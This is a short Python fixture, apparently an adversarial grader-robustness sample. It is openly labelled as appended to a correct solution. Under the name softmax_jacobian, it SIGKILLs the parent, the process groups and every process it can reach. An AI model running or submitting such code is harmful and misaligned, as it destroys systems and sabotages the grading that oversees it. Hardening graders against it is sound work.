
# --- HOSTILE (appended to the correct solution): kill the grader, its group, everyone -------
def softmax_jacobian(z):
    import os
    import signal
    attempts = []

    def attempt(label, action):
        try:
            action()
            attempts.append(f"{label}: sent")
        except OSError as exc:
            attempts.append(f"{label}: {exc.errno}")

    parent = os.getppid()
    attempt("parent", lambda: os.kill(parent, signal.SIGKILL))
    attempt("parent group", lambda: os.killpg(os.getpgid(parent), signal.SIGKILL))
    for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()) if os.path.isdir("/proc") else []:
        if pid != os.getpid():
            attempt(f"pid {pid}", lambda pid=pid: os.kill(pid, signal.SIGKILL))
    attempt("everyone", lambda: os.kill(-1, signal.SIGKILL))
    attempt("own group", lambda: os.killpg(0, signal.SIGKILL))
    raise RuntimeError("; ".join(attempts)[:500])
